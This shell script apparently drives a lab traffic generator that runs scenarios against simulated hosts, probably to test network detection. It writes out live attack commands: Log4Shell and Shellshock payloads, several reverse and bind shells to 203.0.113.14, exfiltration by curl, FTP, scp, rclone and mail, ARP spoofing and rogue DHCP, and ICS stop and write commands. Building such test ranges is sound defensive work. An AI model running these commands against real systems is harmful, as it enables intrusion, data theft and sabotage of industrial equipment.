# attacks_more.sh: exploits, deception on the segment, channels, data that leaves, controllers.
half=1
scenario web-exploit,scan+login-bruteforce dirb_words
dirb_words() { A dirb http://$web/ /usr/share/dirb/wordlists/common.txt -S -r -z 5; }
scenario web-exploit wfuzz_traversal
wfuzz_traversal() { A wfuzz -c -z file,/usr/share/wfuzz/wordlist/Injections/Traversal.txt --hc 404 "http://$web/FUZZ"; }
scenario web-exploit log4shell
log4shell() { A curl -s -A '${jndi:ldap://10.66.0.66:1389/a}' http://$web/; A curl -s -H 'X-Api-Version: ${${lower:j}ndi:${lower:l}dap://10.66.0.66/x}' http://$web/; }
scenario smb-exploit,scan+directory-recon ms17_check
ms17_check() { A nmap -n -Pn -p 445 --script smb-vuln-ms17-010,smb-vuln-ms08-067 $files; }
scenario service-exploit,scan heartbleed
heartbleed() { agent att heartbleed $mail 993; }
scenario arp-spoofing arpspoof
arpspoof() { A timeout 20 arpspoof -i eth0 -t $net.51 $net.1; }
scenario forced-authentication name_poison
name_poison() { agent att poison eth0 & sleep 3; for n in fileserfer printr wpadd; do agent pc1 llmnr $n; done; sleep 2; kill %1; }
scenario c2-channel shell_bash
shell_bash() { agent out handler 203.0.113.14 4444 & sleep 1; at lin timeout 40 bash -c 'bash -i >& /dev/tcp/203.0.113.14/4444 0>&1'; kill %1; }
scenario c2-channel shell_pty_443
shell_pty_443() { agent out handler 203.0.113.14 443 & sleep 1; at lin timeout 40 python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.14",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'; kill %1; }
scenario c2-channel,beacon shell_openssl
shell_openssl() { (agent out handler-tls 203.0.113.14 8443 "$dir") & sleep 1; at lin timeout 60 bash -c 'rm -f /tmp/bt-f; mkfifo /tmp/bt-f; sh -i </tmp/bt-f 2>&1 | openssl s_client -quiet -connect 203.0.113.14:8443 >/tmp/bt-f 2>/dev/null; rm -f /tmp/bt-f'; kill %1; }
scenario beacon,c2-channel http_beacon 30
http_beacon() { agent pc1 beacon http://203.0.113.15/api/poll 40 2 .1; }
scenario dns-tunnel,exfiltration dns_leak
dns_leak() { agent pc1 dnsleak bx.example 150 .2; }
scenario exfiltration curl_upload
curl_upload() { head -c 120000000 /dev/urandom >"$dir/secret.zip"; at pc1 curl -s -k -T "$dir/secret.zip" https://203.0.113.15/up; }
scenario exfiltration ftp_out
ftp_out() { head -c 60000000 /dev/urandom >"$dir/epd.zip"; at pc1 curl -s -T "$dir/epd.zip" ftp://anonymous:x@203.0.113.12/in/epd$RANDOM.zip; }
scenario cryptomining stratum
stratum() { (agent out pool 203.0.113.14 3333) & sleep 1; agent pc1 miner 203.0.113.14 3333; kill %1; }
scenario ransomware rewrite_rename
rewrite_rename() { agent att ransom $files rename; }
scenario ics-command modbus_write
modbus_write() { (at adm "$py" "$here/ot.py" poll $dev) & sleep 20; A "$py" "$here/ot.py" modbus-write $dev; kill %1; }
scenario ics-command bacnet_write
bacnet_write() { A "$py" "$here/ot.py" bacnet-write $dev; }
scenario executable-transfer exe_http
exe_http() { head -c 200000 /usr/bin/python3.11 >"$dir/www/upd.elf"; at pc1 curl -s -o /dev/null http://203.0.113.15/upd.elf; }
scenario executable-transfer+remote-execution exe_share
exe_share() { agent att exe "$dir/tool.exe"; A smbclient //$files/C\$ -U root%Zomer2026 -c "mkdir Windows; mkdir Windows/Temp; put $dir/tool.exe Windows/Temp/svc.exe"; }
scenario dga dga_names
dga_names() { agent pc1 dga 80; }
scenario user-enumeration+scan smtp_vrfy
smtp_vrfy() { agent att vrfy $mail 60; }
half=2
scenario web-exploit sqlmap
sqlmap() { A sqlmap -u "http://$web/search?q=1" --batch --flush-session --level 2 --output-dir "$dir/sqlmap"; }
scenario web-exploit shellshock
shellshock() { A curl -s -A '() { :;}; /bin/bash -c "cat /etc/passwd"' http://$web/cgi-bin/status; }
scenario web-exploit,scan nmap_http_scripts
nmap_http_scripts() { A timeout 120 nmap -n -Pn -p 80 --script http-enum,http-shellshock,http-sql-injection,http-vuln-cve2017-5638 $web; }
scenario web-exploit,scan gobuster
gobuster() { A gobuster dir -q -u http://$web/ -w /usr/share/dirb/wordlists/common.txt -a Mozilla/5.0 -t 5; }
scenario arp-spoofing ettercap
ettercap() { A timeout 25 ettercap -T -q -i eth0 -M arp:remote /$net.52// /$net.1//; }
scenario arp-spoofing rogue_dhcp
rogue_dhcp() { bg att dnsmasq -k -C /dev/null -p 0 -i eth0 --dhcp-range=$net.200,$net.220,1h --dhcp-option=3,$net.66 --dhcp-option=6,$net.66 --dhcp-authoritative --pid-file="$dir/rd"; sleep 1; for n in 1 2 3; do at pc3 timeout 10 udhcpc -i eth0 -n -q -f -s /bin/true; done; kill "$(cat "$dir/rd")"; }
scenario c2-channel,beacon shell_socat_tls
shell_socat_tls() { (agent out handler-tls 203.0.113.14 9443 "$dir") & sleep 1; at lin timeout 60 socat OPENSSL:203.0.113.14:9443,verify=0 EXEC:/bin/sh,pty,stderr; kill %1; }
scenario c2-channel bind_shell
bind_shell() { bg files socat TCP-LISTEN:31337,reuseaddr EXEC:'/bin/sh -i',stderr,pty; sleep 1; agent att operator $files 31337; }
scenario c2-channel nc_odd
nc_odd() { agent out handler 203.0.113.14 53 & sleep 1; at web timeout 40 ncat 203.0.113.14 53 -e /bin/sh; kill %1; }
scenario beacon,c2-channel https_beacon 30
https_beacon() { agent pc2 beacon https://cdn-stat.example/v2/telemetry 40 2 .3; }
scenario beacon,c2-channel curl_beacon 40
curl_beacon() { for n in $(seq 36); do at pc1 curl -s -k -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)' -o /dev/null "https://203.0.113.15/s?id=$RANDOM"; sleep "1.$((RANDOM % 9))"; done; }
scenario icmp-tunnel ping_leak
ping_leak() { for n in $(seq 60); do at pc1 ping -q -c 1 -s 400 -p "$(head -c 16 /dev/urandom | od -An -tx1 | tr -d ' \n')" 203.0.113.14; sleep .2; done; agent pc1 pingleak 203.0.113.14 60; }
scenario exfiltration scp_out
scp_out() { head -c 150000000 /dev/urandom >"$dir/dump.sql.gz"; at db scp -q -i "$dir/user" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "$dir/dump.sql.gz" root@203.0.113.12:/dev/null; }
scenario exfiltration rclone_out
rclone_out() { mkdir -p "$dir/stolen"; for n in $(seq 60); do head -c 2000000 /dev/urandom >"$dir/stolen/f$n.docx"; done; at pc2 rclone copy "$dir/stolen" :webdav: --webdav-url http://203.0.113.15/dav; at pc2 rclone copy "$dir/stolen" :sftp: --sftp-host 203.0.113.12 --sftp-user root --sftp-key-file "$dir/user"; }
scenario c2-channel,exfiltration,beacon ssh_back
ssh_back() { at lin timeout 60 ssh -N -R 2222:localhost:22 -i "$dir/user" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@203.0.113.12 & sleep 4; for n in $(seq 12); do at out ssh -p 2222 -i "$dir/user" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@203.0.113.12 "id; ls /etc | head -40"; sleep 2; done; kill %1; }
scenario ransomware new_files_delete
new_files_delete() { agent att ransom $files replace; }
scenario ics-command s7_stop
s7_stop() { A "$py" "$here/ot.py" s7-stop $dev; }
scenario ics-command dnp3_operate
dnp3_operate() { A "$py" "$here/ot.py" dnp3-operate $dev; }
scenario ics-command,scan modbus_sweep
modbus_sweep() { A "$py" "$here/ot.py" modbus-sweep $dev; }
scenario executable-transfer exe_tftp
exe_tftp() { head -c 100000 /usr/bin/python3.11 >"$dir/tftp/upd.bin"; at pc1 "$py" "$here/agent.py" tftp $dev upd.bin; }
scenario executable-transfer,c2-channel exe_raw
exe_raw() { agent att exe "$dir/tool.exe"; bg out socat -u OPEN:"$dir/tool.exe" TCP-LISTEN:8000,reuseaddr; sleep 1; at pc1 timeout 10 ncat 203.0.113.14 8000; }
scenario c2-channel irc_bot
irc_bot() { (agent out ircd 203.0.113.14 6667) & sleep 1; agent pc1 ircbot 203.0.113.14 6667; kill %1; }
scenario scan,user-enumeration sip_extensions
sip_extensions() { bg pc3 "$py" "$here/agent.py" sipd $net.53; sleep 1; A svwar -e100-160 $net.53 -m REGISTER; A svmap $net.50-60; }
scenario exfiltration mail_out
mail_out() { head -c 3000000 /dev/urandom >"$dir/report.zip"; bg out "$py" "$here/agent.py" smtpd 203.0.113.12 587; sleep 1; for n in $(seq 4); do at pc1 swaks --server 203.0.113.12:587 --to drop@bx.example --from log@bx.example --attach @"$dir/report.zip" --header "Subject: pc1 log $n"; done; }
